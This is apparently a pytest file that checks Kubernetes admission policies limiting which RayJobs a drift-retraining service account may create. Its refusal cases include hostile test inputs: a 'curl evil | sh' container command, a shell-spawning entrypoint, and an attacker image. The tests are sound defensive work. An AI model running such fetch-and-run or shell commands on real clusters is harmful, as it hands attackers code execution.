"""The drift job's bounded RBAC: the ValidatingAdmissionPolicies of k8s/base/drift-admission.yaml, evaluated.

The policies, bindings and RayJob templates come from the rendered prod overlay (`kubectl kustomize`), and their CEL
(match conditions, variables, validations, message expressions) is evaluated with cel-python, the way the API
server's admission plugin applies it: a binding matches by namespace and object selector, its paramRef names the
template whose spec the copy must repeat, every match condition must hold, and any false validation denies.
The allowed RayJobs are made by spam_mlops.retrain.training_job, the function the drift job itself uses. What only a
cluster shows: that the API server accepts the policies (its type checker is stricter than cel-python's) and that
KubeRay's CRD schema gives the same field presence as the rendered YAML.
"""
from __future__ import annotations

import copy
import sys
from datetime import UTC, datetime

import celpy  # cel-python, a dev extra: a missing one fails here, in CI too
import pytest
from celpy import celtypes
from support import ROOT, require

sys.path.insert(0, str(ROOT / "scripts"))
import validate_manifests as vm  # noqa: E402

from spam_mlops.retrain import training_job  # noqa: E402

DRIFT = "system:serviceaccount:spam-mlops:spam-drift"
NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)


@pytest.fixture(scope="module")
def prod() -> list[dict]:
    return vm.render("prod", require(vm.find_tool("kubectl"), "kubectl", "run scripts/install-tools.sh"))


@pytest.fixture(scope="module")
def templates(prod) -> dict[str, dict]:
    return {d["metadata"]["name"]: d for d in prod if d["kind"] == "RayJob"}


def _selects(selector: dict | None, labels: dict) -> bool:
    "matchLabels / matchExpressions (In, NotIn, Exists, DoesNotExist) of a label selector; empty selects all."
    selector = selector or {}
    if any(labels.get(k) != v for k, v in (selector.get("matchLabels") or {}).items()): return False
    for e in selector.get("matchExpressions") or []:
        has, val = e["key"] in labels, labels.get(e["key"])
        if not {"In": has and val in e.get("values", []), "NotIn": not has or val not in e.get("values", []),
                "Exists": has, "DoesNotExist": not has}[e["operator"]]: return False
    return True


class Admission:
    "The ValidatingAdmissionPolicies of a rendering, applied to one RayJob request as the API server would."

    def __init__(self, docs: list[dict]):
        self.policies = {d["metadata"]["name"]: d for d in docs if d["kind"] == "ValidatingAdmissionPolicy"}
        self.bindings = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding"]
        self.objects = {(d["kind"], d["metadata"].get("namespace"), d["metadata"]["name"]): d for d in docs}
        self.env = celpy.Environment()
        self._programs: dict[str, object] = {}
        self.evaluated = 0

    def _eval(self, expr: str, activation: dict):
        if expr not in self._programs: self._programs[expr] = self.env.program(self.env.compile(expr))
        self.evaluated += 1
        return self._programs[expr].evaluate(activation)

    def _rule_matches(self, policy: dict, operation: str) -> bool:
        return any("ray.io" in r["apiGroups"] and "rayjobs" in r["resources"] and operation in r["operations"]
                   for r in policy["spec"]["matchConstraints"]["resourceRules"])

    def review(self, rayjob: dict, user: str, namespace: str = "spam-mlops", operation: str = "CREATE") -> list[str]:
        "Denial messages for the request (empty: admitted)."
        denied = []
        for b in self.bindings:
            policy = self.policies[b["spec"]["policyName"]]
            res = b["spec"].get("matchResources") or {}
            if not self._rule_matches(policy, operation): continue
            if not _selects(res.get("namespaceSelector"), {"kubernetes.io/metadata.name": namespace}): continue
            if not _selects(res.get("objectSelector"), rayjob["metadata"].get("labels") or {}): continue
            act = {"object": celpy.json_to_cel(rayjob), "oldObject": None,
                   "request": celpy.json_to_cel({"operation": operation, "namespace": namespace,
                                                 "userInfo": {"username": user}})}
            if not all(bool(self._eval(c["expression"], act)) for c in policy["spec"].get("matchConditions") or []):
                continue
            if "paramKind" in policy["spec"]:
                ref = b["spec"]["paramRef"]
                param = self.objects.get((policy["spec"]["paramKind"]["kind"], ref["namespace"], ref["name"]))
                if param is None:
                    assert ref["parameterNotFoundAction"] == "Deny"
                    denied.append(f"{b['metadata']['name']}: no parameter {ref['name']}")
                    continue
                act["params"] = celpy.json_to_cel(param)
            variables = {}
            for v in policy["spec"].get("variables") or []:
                act["variables"] = celtypes.MapType(variables)
                variables[celtypes.StringType(v["name"])] = self._eval(v["expression"], act)
            act["variables"] = celtypes.MapType(variables)
            for val in policy["spec"]["validations"]:
                # an evaluation error (a missing field, say) denies under failurePolicy: Fail
                try: ok = self._eval(val["expression"], act)
                except celpy.CELEvalError: ok = None
                if isinstance(ok, celpy.CELEvalError): ok = None
                if ok is None: assert policy["spec"]["failurePolicy"] == "Fail"
                if not isinstance(ok, celtypes.BoolType) or not ok:
                    msg = (str(self._eval(val["messageExpression"], act)) if "messageExpression" in val
                           else val.get("message", val["expression"]))
                    denied.append(f"{b['metadata']['name']}: {msg}")
        return denied


@pytest.fixture(scope="module")
def admission(prod) -> Admission:
    return Admission(prod)


def drift_copy(template: dict) -> dict:
    "What the drift job creates from a template (spam_mlops.retrain.training_job)."
    return training_job(copy.deepcopy(template), "drift-report-1", NOW)


def test_the_policies_are_rendered_bound_and_scoped(prod):
    "Two policies, three bindings (label check; copy of train; copy of tune), all for the drift ServiceAccount only."
    pols = {d["metadata"]["name"]: d for d in prod if d["kind"] == "ValidatingAdmissionPolicy"}
    binds = {d["metadata"]["name"]: d["spec"] for d in prod if d["kind"] == "ValidatingAdmissionPolicyBinding"}
    assert set(pols) == {"spam-drift-rayjob-template", "spam-drift-rayjob-copy"}
    assert {n: (b["policyName"], (b.get("paramRef") or {}).get("name")) for n, b in binds.items()} == {
        "spam-drift-rayjob-template": ("spam-drift-rayjob-template", None),
        "spam-drift-rayjob-copy-train": ("spam-drift-rayjob-copy", "spam-train"),
        "spam-drift-rayjob-copy-tune": ("spam-drift-rayjob-copy", "spam-tune")}
    assert all(b["validationActions"] == ["Deny"] for b in binds.values())
    for p in pols.values():
        assert p["spec"]["failurePolicy"] == "Fail"
        assert [c["expression"] for c in p["spec"]["matchConditions"]] == [f'request.userInfo.username == "{DRIFT}"']
    # the drift job's ServiceAccount is the one bound to the Role that may create RayJobs
    rb = next(d for d in prod if d["kind"] == "RoleBinding" and d["metadata"]["name"] == "spam-drift-retrain")
    assert [f"system:serviceaccount:{s['namespace']}:{s['name']}" for s in rb["subjects"]] == [DRIFT]
    # Argo CD's rendering carries no namespace on these cluster-scoped objects (kustomize#6051 worked around)
    kubectl = vm.find_tool("kubectl")
    pipeline = vm.render(vm.APPS / "pipeline", kubectl)
    assert [d["metadata"].get("namespace") for d in pipeline if d["kind"].startswith("ValidatingAdmission")] == \
        [None] * 5


@pytest.mark.parametrize("name", ["spam-train", "spam-tune"])
def test_the_drift_jobs_copies_are_admitted(admission, templates, name):
    job = drift_copy(templates[name])
    assert job["spec"]["suspend"] is False and job["metadata"]["labels"]["app.kubernetes.io/name"] == name
    before = admission.evaluated
    assert admission.review(job, DRIFT) == []
    assert admission.evaluated - before > 20  # every condition, variable and validation was evaluated


def _set_head(job, **fields):
    job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0].update(fields)


def _worker_pod(job):
    return job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]


REFUSED = {
    "another entrypoint": (lambda j: j["spec"].update(entrypoint="python -c 'import os; os.system(\"sh\")'"),
                           ["entrypoint: only the template"]),
    "another head image": (lambda j: _set_head(j, image="docker.io/attacker/tool:1"), ["image: only the template"]),
    "another worker image": (lambda j: _worker_pod(j)["containers"][0].update(image="busybox:1"),
                             ["image: only the template"]),
    "an extra sidecar": (lambda j: _worker_pod(j)["containers"].append({"name": "x", "image": "busybox:1"}),
                         ["image: only the template"]),
    "a privileged service account": (lambda j: _worker_pod(j).update(serviceAccountName="spam-drift"),
                                     ["serviceAccountName: only the template"]),
    "a command override": (lambda j: _set_head(j, command=["sh", "-c", "curl evil | sh"]),
                           ["spec.rayClusterSpec: only the template"]),
    "a runtime env": (lambda j: j["spec"].update(runtimeEnvYAML="pip: [evil]"), ["spec.runtimeEnvYAML"]),
    "a submitter pod": (lambda j: j["spec"].update(submitterPodTemplate={"spec": {"containers": [
        {"name": "s", "image": "busybox:1"}]}}), ["spec.submitterPodTemplate"]),
    "an existing cluster": (lambda j: j["spec"].update(clusterSelector={"ray.io/cluster": "other"}),
                            ["spec.clusterSelector"]),
    "a longer deadline": (lambda j: j["spec"].update(activeDeadlineSeconds=10 ** 6), ["spec.activeDeadlineSeconds"]),
    "no template label": (lambda j: j["metadata"]["labels"].pop("app.kubernetes.io/name"),
                          ["names its template"]),
    "tune's spec under train's label": (None, ["entrypoint: only the template spam-train"]),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_other_rayjobs_of_the_drift_job_are_refused(admission, templates, case):
    change, reasons = REFUSED[case]
    job = drift_copy(templates["spam-train"])
    if change is None:
        job["spec"] = drift_copy(templates["spam-tune"])["spec"]
    else:
        change(job)
    denied = admission.review(job, DRIFT)
    assert denied, f"{case} was admitted"
    for reason in reasons:
        assert any(reason in d for d in denied), (reason, denied)


def test_the_policies_bind_only_the_drift_service_account_and_namespace(admission, templates):
    "Argo CD, a human and other namespaces are not matched; the label check applies to any drift RayJob."
    job = drift_copy(templates["spam-train"])
    _set_head(job, image="busybox:1")
    assert admission.review(job, "system:serviceaccount:argocd:argocd-application-controller") == []
    assert admission.review(job, "alice@example.org") == []
    assert admission.review(job, DRIFT, namespace="elsewhere") == []
    assert admission.review(job, DRIFT)  # the same object from the drift job is refused
    unlabelled = {"apiVersion": "ray.io/v1", "kind": "RayJob", "metadata": {"name": "x", "labels": {}},
                  "spec": {"entrypoint": "sh"}}
    assert any("names its template" in d for d in admission.review(unlabelled, DRIFT))


def test_a_missing_template_denies(prod, templates):
    "Without its parameter (the template deleted), the copy binding denies (parameterNotFoundAction: Deny)."
    job = drift_copy(templates["spam-tune"])
    without = Admission([d for d in prod if not (d["kind"] == "RayJob" and d["metadata"]["name"] == "spam-tune")])
    assert any("no parameter spam-tune" in d for d in without.review(job, DRIFT))
